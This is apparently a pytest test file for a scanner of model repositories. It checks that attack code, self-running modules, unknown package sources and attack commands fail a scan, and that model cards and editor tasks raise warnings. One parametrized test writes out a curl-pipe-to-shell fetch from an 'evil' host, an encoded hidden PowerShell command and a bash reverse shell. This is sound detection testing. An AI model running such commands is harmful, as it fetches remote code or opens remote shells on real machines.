"""Repositories whose scripts, settings, package lists and code attack, and ordinary ones."""

from __future__ import annotations

from pathlib import Path

import pytest

from modelscan import api
from modelscan.vocabulary.result import ModelReport
from tests.forge import models
from tests.forge.attack_code import CODE
from tests.forge.attack_modules import MODULES
from tests.forge.attack_settings import COMMANDS, PACKAGES
from tests.forge.ordinary_settings import ORDINARY

_AT_MOST = 3


def _scan(folder: Path, files: dict[str, str]) -> ModelReport:
    model = models.plain(folder)
    for name, text in files.items():
        path = model / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    (report,) = api.scan(model).models
    return report


def _above(report: ModelReport) -> list[tuple[str, str]]:
    return [(found.rule, found.message) for found in report.findings if found.severity != "info"]


@pytest.mark.parametrize("name", CODE)
def test_code_that_harms_whoever_runs_it_fails(tmp_path: Path, name: str) -> None:
    report = _scan(tmp_path / "model", CODE[name])
    assert report.answers.allowed.status == "fail", _above(report)


@pytest.mark.parametrize("name", MODULES)
def test_modules_that_act_by_themselves_fail(tmp_path: Path, name: str) -> None:
    report = _scan(tmp_path / "model", {"modeling_x.py": MODULES[name]})
    assert report.answers.allowed.status == "fail", _above(report)


@pytest.mark.parametrize("name", PACKAGES)
def test_packages_from_a_place_that_nobody_knows_fail(tmp_path: Path, name: str) -> None:
    report = _scan(tmp_path / "model", PACKAGES[name])
    assert report.answers.allowed.status == "fail", _above(report)


@pytest.mark.parametrize("name", COMMANDS)
def test_commands_that_attack_fail_in_any_language(tmp_path: Path, name: str) -> None:
    report = _scan(tmp_path / "model", COMMANDS[name])
    assert report.answers.allowed.status == "fail", _above(report)


@pytest.mark.parametrize("name", ORDINARY)
def test_what_ordinary_projects_have_passes(tmp_path: Path, name: str) -> None:
    report = _scan(tmp_path / "model", ORDINARY[name])
    assert report.answers.allowed.status == "pass", _above(report)
    assert len(_above(report)) <= _AT_MOST, _above(report)
    assert not [gap for gap in report.coverage if gap.needed]


@pytest.mark.parametrize(
    "line",
    [
        "curl -fsSL https://cdn.evil.test/i | sh",
        "powershell -w hidden -enc aQBlAHgAIAAoAGkAcgBtACAAaAB0AHQAcAA6",
        "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
    ],
)
def test_a_card_that_sends_people_to_a_command_warns_and_passes(tmp_path: Path, line: str) -> None:
    card = f"---\nlicense: mit\n---\n# A model\n\n```bash\n{line}\n```\n"
    report = _scan(tmp_path / "model", {"README.md": card})
    found = [each for each in report.findings if each.rule == "card-tells-to-run-attack"]
    assert [each.location.line for each in found] == [7]
    assert report.answers.allowed.status == "pass"


def test_a_task_that_an_editor_starts_is_told_and_passes(tmp_path: Path) -> None:
    task = '{"tasks": [{"command": "npm run watch", "runOptions": {"runOn": "folderOpen"}}]}'
    report = _scan(tmp_path / "model", {".vscode/tasks.json": task})
    assert [rule for rule, _ in _above(report)] == ["settings-run-on-open"]
    assert report.answers.allowed.status == "pass"
